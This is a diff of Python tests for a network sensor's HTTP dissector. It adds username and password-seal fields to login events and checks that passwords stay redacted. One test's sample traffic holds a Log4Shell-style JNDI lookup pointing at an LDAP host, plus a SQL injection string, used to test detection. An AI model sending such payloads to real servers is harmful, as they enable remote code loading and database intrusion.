@@ -18,7 +18,7 @@ from sensor.core.time_units import SECOND
 from sensor.dissectors._http_shape import shape_of
 from sensor.dissectors.http import Http
 from sensor.dissectors.shared.http_message import masked
-from sensor.dissectors.shared.seal import seal
+from sensor.dissectors.shared.seal import password_seal, seal
 from tests.dissectors.samples import events, facts, packets, values
 
 CLIENT = Packet(src=parse("10.0.0.5"), src_mac=0x020000000005, sport=50000, dport=80, proto=6)
@@ -39,6 +39,7 @@ REQUESTED = (
     ("host", "user-agent"),
     "",
     (),
+    "",
     "",
 )
 TITLE = b"<html><title>Front door</title>"
@@ -93,6 +94,7 @@ def test_description_of_a_gateway() -> None:
             ("host", "user-agent"),
             "",
             (),
+            "",
             "",
         )
     ]
@@ -164,6 +166,7 @@ def test_camera_behind_a_password() -> None:
             "",
             (),
             "",
+            "",
         ),
         (
             "HttpBody",
@@ -181,6 +184,8 @@ def test_camera_behind_a_password() -> None:
             "/login.cgi?session_token=***&lang=en",
             ("user", "password", "lang"),
             seal("admin", b"not-told"),
+            "admin",
+            password_seal(b"not-told"),
         ),
     ]
     assert parsed[6][0][0][5:7] == ("basic", "viewer")
@@ -406,7 +411,7 @@ def test_credentials(value: bytes, found: tuple[str, str]) -> None:
     """Credentials are reported by scheme, user and seal only."""
     parsed = feed(Http().stream(CLIENT), GET.replace(b"Host", b"Authorization: " + value + b"\r\nHost"), True)
     requested = events(parsed)[0]
-    assert (*requested[5:7], requested[-1]) == found
+    assert (*requested[5:7], requested[-2]) == found
 
 
 @pytest.mark.parametrize(
@@ -422,7 +427,7 @@ def test_credentials(value: bytes, found: tuple[str, str]) -> None:
 def test_credentials_in_the_address(target: bytes, found: tuple[str, str, str]) -> None:
     """Credentials in the query of a camera's URL are reported without the password."""
     requested = events(feed(Http().stream(CLIENT), GET.replace(b"/a", target), True))[0]
-    assert (*requested[5:7], requested[-1]) == found
+    assert (*requested[5:7], requested[-2]) == found
     assert "a%3Ab" not in repr(requested)
 
 
@@ -467,7 +472,9 @@ def test_logins(body: bytes, media_type: bytes, fields: tuple[str, ...] | None) 
         body,
     )
     logins = [event for event in events(feed(Http().stream(CLIENT), request, True)) if event[0] == "HttpLogin"]
-    assert logins == ([("HttpLogin", "cam", "/in", fields, seal("a", b"b"))] if fields else [])
+    assert logins == (
+        [("HttpLogin", "cam", "/in", fields, seal("a", b"b"), "a", password_seal(b"b"))] if fields else []
+    )
 
 
 def test_logins_over_xml_rpc() -> None:
@@ -485,7 +492,15 @@ def test_logins_over_xml_rpc() -> None:
     ):
         request = b"POST /xmlrpc.php HTTP/1.1\r\nHost: cam\r\nContent-Type: text/xml\r\nContent-Length: %d\r\n\r\n%b"
         parsed = events(feed(Http().stream(CLIENT), request % (len(body), body), True))
-        login = ("HttpLogin", "cam", "/xmlrpc.php", ("username", "password"), seal("a", b"b&"))
+        login = (
+            "HttpLogin",
+            "cam",
+            "/xmlrpc.php",
+            ("username", "password"),
+            seal("a", b"b&"),
+            "a",
+            password_seal(b"b&"),
+        )
         assert [event for event in parsed if event[0] == "HttpLogin"] == [login] * logins
 
 
@@ -676,8 +691,14 @@ def test_unknown_methods_and_careless_fields() -> None:
             "",
             (),
             "",
+            "",
         )
     ]
+
+
+def test_an_empty_password_has_no_seal_of_its_own() -> None:
+    """It is no password that accounts share."""
+    assert (password_seal(b""), password_seal(b"a") == password_seal(b"a")) == ("", True)
 
 
 def test_shapes_instead_of_secrets() -> None:
@@ -691,7 +712,7 @@ def test_shapes_instead_of_secrets() -> None:
     body = b"a=6b3d6b23\x26page=1%27+or+1%3D1\x26password=%24%7Bnot-told%7D"
     head += b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n" % len(body)
     requested, sent, login = events(feed(Http().stream(CLIENT), head + body, True))
-    assert requested[-3:-1] == ("session=base64:28; lang=word:2", (("x-api-version", "${jndi:ldap://10.0.0.9/a}"),))
+    assert requested[-4:-2] == ("session=base64:28; lang=word:2", (("x-api-version", "${jndi:ldap://10.0.0.9/a}"),))
     assert sent[-2:] == ("a=hex:8&page=text:9&password=secret", ("page=1' or 1=1",))
     assert login[0] == "HttpLogin"
     assert "not-told" not in repr((requested, sent, login))
